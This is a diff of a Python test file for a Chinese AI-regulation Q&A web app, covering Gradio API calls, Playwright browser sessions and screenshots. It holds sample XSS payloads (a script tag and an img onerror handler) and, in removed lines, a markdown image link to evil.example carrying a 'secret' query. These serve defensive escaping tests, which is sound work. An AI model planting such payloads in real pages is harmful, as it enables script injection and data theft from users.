@@ -1,4 +1,9 @@
-"""The web app: rendering is escaped, the named API works through gradio_client, and a real browser chats."""
+"""The web app in a real server: the named API works through gradio_client, and a real browser chats.
+
+Screenshots are written where tests may write (LAWQA_SCREENSHOTS, else a temporary folder), never over a
+tracked file. The README's copies (tests/screenshots/ui.png and ui-phone.png) are updated deliberately:
+`LAWQA_SCREENSHOTS=tests/screenshots pytest tests/serving/test_ui.py -k two_turn`.
+"""
 
 from __future__ import annotations
 
@@ -7,66 +12,22 @@ import shutil
 import subprocess
 import sys
 import tempfile
+import time
 from pathlib import Path
 
 import httpx
 import pytest
 
-from assistant.answering.answer import Answer
-from assistant.answering.citations import DroppedCitation
 from assistant.corpus.adding import add_regulation
-from assistant.corpus.model import Citation
-from assistant.serving.ui import anchor, mode_line, render_answer, render_sources
+from assistant.serving.ui_render import anchor
 from tests.conftest import free_port, wait_for_http
 
-# Written where tests may write (LAWQA_SCREENSHOTS, else a temporary folder), never over a tracked file: the
-# README's copy (tests/screenshots/ui.png) is updated deliberately, by copying a fresh one over it.
 SCREENSHOTS = Path(os.environ.get("LAWQA_SCREENSHOTS") or tempfile.mkdtemp(prefix="lawqa-screenshots-"))
-SCREENSHOT = SCREENSHOTS / "ui.png"
 EVIL = ("第一条 本规定用于测试 <script>window.__pwned = true</script> 和 "
         "<img src=x onerror=\"window.__pwned = true\"> 的显示。\n第二条 本规定自发布之日起施行。\n")
-
-
-def test_answer_markdown_is_escaped_and_links_citations(corpus):
-    article = corpus.get("shanghai-ai-2022:66")
-    answer = Answer(text="《上海市促进人工智能产业发展条例》第六十六条规定：\n> <b>x</b> & <script>y</script>",
-                    citations=(Citation("shanghai-ai-2022", 66),), language="zh", abstained=False, retrieved=(),
-                    cited_articles=(article,))
-    markdown = render_answer(answer, corpus)
-    assert "<script>" not in markdown and "&lt;script>" in markdown and "&amp;" in markdown
-    assert markdown.startswith("[《上海市促进人工智能产业发展条例》第六十六条](#lawqa-shanghai-ai-2022-66)规定：")
-
-
-def test_sources_panel_shows_both_languages_and_metadata(corpus):
-    answer = Answer(text="…", citations=(Citation("shanghai-ai-2022", 66),), language="en", abstained=False,
-                    retrieved=(), cited_articles=(corpus.get("shanghai-ai-2022:66"),))
-    panel = render_sources(answer, corpus, "en")
-    assert f'id="{anchor("shanghai-ai-2022:66")}"' in panel
-    assert '<div lang="zh"><p>本市设立人工智能伦理专家委员会' in panel and '<div lang="en"><p>The Municipality' in panel
-    assert "Effective: 2022-10-01" in panel and "Chapter 5: " in panel
-
-
-def test_sources_panel_escapes_article_text(tmp_path):
-    from assistant.corpus.sources import load_corpus
-
-    source = tmp_path / "evil.txt"
-    source.write_text(EVIL, encoding="utf-8")
-    add_regulation(tmp_path, source, regulation_id="test-evil-2024", title="<b>Evil</b> 规定")
-    corpus = load_corpus(tmp_path)
-    answer = Answer(text="…", citations=(Citation("test-evil-2024", 1),), language="zh", abstained=False,
-                    retrieved=(), cited_articles=(corpus.get("test-evil-2024:1"),))
-    panel = render_sources(answer, corpus, "zh")
-    assert "<script>" not in panel and "<img" not in panel
-    assert "&lt;script&gt;window.__pwned = true&lt;/script&gt;" in panel and "&lt;b&gt;Evil&lt;/b&gt;" in panel
-
-
-def test_mode_line_says_why_it_fell_back():
-    answer = Answer(text="…", citations=(), language="en", abstained=False, retrieved=(), mode="extractive",
-                    note="fell back to extractive: ConnectError: refused",
-                    dropped_citations=(DroppedCitation("shanghai-ai-2022", 99, "does not exist"),))
-    line = mode_line(answer, "en")
-    assert line.startswith("LLM unavailable, fell back to extractive: fell back to extractive: ConnectError")
-    assert "shanghai-ai-2022:99 (does not exist)" in line
+BROWSER_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+ANSWER_WAIT = 60_000  # ms: the first answer of a fresh server also loads the embedder
 
 
 @pytest.fixture(scope="module")
@@ -84,12 +45,9 @@ def served(e5_assistant, tmp_path_factory):
     url = f"http://127.0.0.1:{port}"
     try:
         wait_for_http(f"{url}/healthz", process, timeout=120)
-        deadline = 180
-        while httpx.get(f"{url}/healthz").json()["state"] != "ready" and deadline > 0:
-            import time
-
+        deadline = time.monotonic() + 180
+        while httpx.get(f"{url}/healthz").json()["state"] != "ready" and time.monotonic() < deadline:
             time.sleep(1)
-            deadline -= 1
         yield url
     finally:
         process.terminate()
@@ -104,7 +62,7 @@ def test_gradio_client_named_endpoints(served, question, article):
     from gradio_client import Client
 
     client = Client(served + "/", verbose=False)
-    chat, panel, _mode, box = client.predict(question, [], "all", "extractive", api_name="/chat")
+    chat, panel, _mode, box = client.predict(question, [], "all", "extractive", "en", api_name="/chat")
     assert chat[-1]["role"] == "assistant" and f"#{anchor(article)}" in str(chat[-1]["content"])
     assert f'id="{anchor(article)}"' in panel and box == ""
     contract = client.predict(question, "all", "extractive", api_name="/ask")
@@ -112,67 +70,137 @@ def test_gradio_client_named_endpoints(served, question, article):
     assert {"regulation": regulation, "article": int(number)} in contract["citations"]
 
 
-def _chromium():
+def _install(package: str) -> None:
+    """A Debian package the browser tests need, installed only where the test may (root with apt-get)."""
+    if os.geteuid() == 0 and shutil.which("apt-get"):
+        subprocess.run(["apt-get", "install", "-y", "-qq", package], capture_output=True, timeout=900, check=False)
+
+
+def _chromium() -> str:
     path = shutil.which("chromium") or "/usr/bin/chromium"
     if not os.path.exists(path):
-        # Debian's package, installed only where the test may (root); otherwise skip with the reason.
-        if os.geteuid() == 0 and shutil.which("apt-get"):
-            subprocess.run(["apt-get", "install", "-y", "-qq", "chromium"], capture_output=True, timeout=900,
-                           check=False)
+        _install("chromium")
         if not os.path.exists(path):
             pytest.skip("Chromium is not installed and cannot be installed here (needs root and apt-get)")
+    # Without a Chinese font the screenshots show boxes for every Chinese character (the tests pass anyway).
+    fonts = subprocess.run(["fc-list", ":lang=zh"], capture_output=True, text=True, check=False).stdout \
+        if shutil.which("fc-list") else "unknown"
+    if not fonts.strip():
+        _install("fonts-wqy-microhei")
     return path
 
 
-BROWSER_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
-
-
-@pytest.mark.slow
-def test_browser_chat_sources_sessions_and_escaping(served, tmp_path):
-    from playwright.sync_api import expect, sync_playwright
+@pytest.fixture(scope="module")
+def browser():
+    from playwright.sync_api import sync_playwright
 
     executable = _chromium()
     with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=executable, args=BROWSER_FLAGS)
+        launched = playwright.chromium.launch(executable_path=executable, args=BROWSER_FLAGS)
         try:
-            page = browser.new_context(viewport={"width": 1400, "height": 1000}).new_page()
-            page.goto(served + "/")
-            box = page.locator("#lawqa-question textarea")
-            box.fill("上海市人工智能伦理专家委员会有哪些职责？")
-            box.press("Enter")
-            panel = page.locator("#lawqa-sources")
-            expect(panel).to_contain_text("本市设立人工智能伦理专家委员会", timeout=60_000)
-            expect(panel).to_contain_text("Expert Committee on AI Ethics")
-            chat = page.locator("#lawqa-chat")
-            expect(chat).to_contain_text("第六十六条", timeout=30_000)
-            page.locator('#lawqa-chat a[href="#lawqa-shanghai-ai-2022-66"]').first.click()
-            expect(page.locator("#lawqa-shanghai-ai-2022-66")).to_be_in_viewport()
-            SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
-            page.screenshot(path=str(SCREENSHOT), full_page=False)
-
-            other = browser.new_context().new_page()  # a second user sees none of the first one's chat
-            other.goto(served + "/")
-            expect(other.locator("#lawqa-question textarea")).to_be_visible()
-            expect(other.locator("#lawqa-chat")).not_to_contain_text("第六十六条")
-
-            box.fill("测试规定第一条规定了什么？")
-            box.press("Enter")
-            expect(panel).to_contain_text("<script>window.__pwned = true</script>", timeout=60_000)
-            assert page.evaluate("window.__pwned === undefined")  # shown as text, never run
-            page.locator("#lawqa-clear").click()
-            expect(chat).not_to_contain_text("第六十六条")
+            yield launched
         finally:
-            browser.close()
-    assert SCREENSHOT.stat().st_size > 10_000
+            launched.close()
 
 
-def test_links_and_images_in_answers_are_not_live(corpus):
-    from assistant.serving.ui import escape_markdown_html, unescape_markdown_html
+TWO_TURNS = {
+    # name: viewport, browser language, two questions, the article each cites, the screenshot
+    "desktop": ({"width": 1280, "height": 800}, "zh-CN",
+                ["上海市人工智能伦理专家委员会有哪些职责？", "深圳条例第七十一条规定了什么？"],
+                ["shanghai-ai-2022:66", "shenzhen-ai-2022:71"], "ui.png"),
+    "phone": ({"width": 390, "height": 844}, "en-US",
+              ["What does Article 66 of the Shanghai regulation say?",
+               "What does Article 71 of the Shenzhen regulation say?"],
+              ["shanghai-ai-2022:66", "shenzhen-ai-2022:71"], "ui-phone.png"),
+}
 
-    hostile = "See ![x](https://evil.example/?q=secret) and [official text](https://evil.example) `code`"
-    answer = Answer(text=hostile, citations=(), language="en", abstained=False, retrieved=())
-    markdown = render_answer(answer, corpus)
-    assert "![" not in markdown and "](" not in markdown.replace("\\](", "")
-    assert markdown.startswith("See \\!\\[x\\](https://evil.example/?q=secret)")
-    assert unescape_markdown_html(escape_markdown_html("a < b & [c]!")) == "a < b & [c]!"
+
+@pytest.mark.slow
+@pytest.mark.parametrize("width", list(TWO_TURNS))
+def test_two_turn_conversation_keeps_the_first_turns_citation_working(served, browser, width):
+    from playwright.sync_api import expect
+
+    viewport, locale, questions, articles, screenshot = TWO_TURNS[width]
+    phone = width == "phone"
+    context = browser.new_context(viewport=viewport, locale=locale, is_mobile=phone, has_touch=phone,
+                                  device_scale_factor=2 if phone else 1)
+    try:
+        page = context.new_page()
+        page.goto(served + "/")
+        expect(page.locator("#lawqa-send")).to_have_text("提问" if locale.startswith("zh") else "Ask")
+        box = page.locator("#lawqa-question textarea")
+        if phone:  # the question box is above the fold
+            assert box.bounding_box()["y"] + box.bounding_box()["height"] <= viewport["height"]
+        panel = page.locator("#lawqa-sources")
+        for question, article in zip(questions, articles):
+            box.fill(question)
+            box.press("Enter")
+            expect(panel.locator(f"section#{anchor(article)}")).to_be_attached(timeout=ANSWER_WAIT)
+        first = articles[0]
+        expect(panel.locator(f"details#{anchor(first)}")).to_be_attached()  # kept, folded, from the first turn
+        expect(page.locator("#lawqa-chat")).to_contain_text(questions[0])
+        if phone:  # the sources come right under the chat, before the filter and examples
+            page.evaluate("window.scrollTo(0, 0)")
+            chat, sources = page.locator("#lawqa-chat").bounding_box(), panel.bounding_box()
+            controls = page.locator("#lawqa-regulation").bounding_box()
+            assert chat["y"] + chat["height"] <= sources["y"] < controls["y"]
+            assert box.bounding_box()["y"] + box.bounding_box()["height"] <= viewport["height"]
+        page.locator(f'#lawqa-chat a[href="#{anchor(first)}"]').first.click()
+        card = page.locator(f"#{anchor(first)}")
+        expect(card).to_have_attribute("open", "")
+        expect(card).to_be_in_viewport()
+        page.wait_for_timeout(800)  # the smooth scroll and the highlight
+        if phone:  # the picture shows the phone's first screen: the conversation, the box, the sources below
+            page.evaluate("window.scrollTo(0, 0)")
+        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+        page.screenshot(path=str(SCREENSHOTS / screenshot))
+    finally:
+        context.close()
+    assert (SCREENSHOTS / screenshot).stat().st_size > 10_000
+
+
+@pytest.mark.slow
+def test_language_examples_browser_sessions_and_escaping(served, browser):
+    from playwright.sync_api import expect
+
+    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="en-US")
+    try:
+        page = context.new_page()
+        page.goto(served + "/")
+        send = page.locator("#lawqa-send")
+        expect(send).to_have_text("Ask")
+        expect(page.locator("#lawqa-mode-choice")).to_be_hidden()  # no LLM configured
+        page.locator("#lawqa-language").get_by_text("中文").click()
+        expect(send).to_have_text("提问")
+        expect(page.locator("#lawqa-regulation")).to_contain_text("法规")
+        page.reload()
+        expect(send).to_have_text("提问")  # the choice is remembered by this browser
+
+        page.locator("#lawqa-examples").get_by_text("深圳条例第七十一条规定了什么？").click()  # asks at once
+        panel = page.locator("#lawqa-sources")
+        expect(panel.locator(f"section#{anchor('shenzhen-ai-2022:71')}")).to_be_attached(timeout=ANSWER_WAIT)
+
+        page.locator("#lawqa-browser").get_by_text("浏览条文").click()
+        page.locator("#lawqa-browse-regulation input").click()
+        page.get_by_role("option", name="深圳经济特区人工智能产业促进条例").click()
+        page.locator("#lawqa-browse-number input").fill("44")
+        card = page.locator("#lawqa-browse-card")
+        expect(card).to_contain_text("shenzhen-ai-2022:44")
+        expect(card.locator('div[lang="en"]')).not_to_be_empty()
+
+        other = context.browser.new_context().new_page()  # a second visitor sees none of the first one's chat
+        other.goto(served + "/")
+        expect(other.locator("#lawqa-question textarea")).to_be_visible()
+        expect(other.locator("#lawqa-chat")).not_to_contain_text("第七十一条")
+        other.context.close()
+
+        box = page.locator("#lawqa-question textarea")
+        box.fill("测试规定第一条规定了什么？")
+        box.press("Enter")
+        expect(panel).to_contain_text("<script>window.__pwned = true</script>", timeout=ANSWER_WAIT)
+        assert page.evaluate("window.__pwned === undefined")  # shown as text, never run
+        page.locator("#lawqa-clear").click()
+        expect(page.locator("#lawqa-chat")).not_to_contain_text("第七十一条")
+        expect(panel).not_to_contain_text("shenzhen-ai-2022:71")
+    finally:
+        context.close()
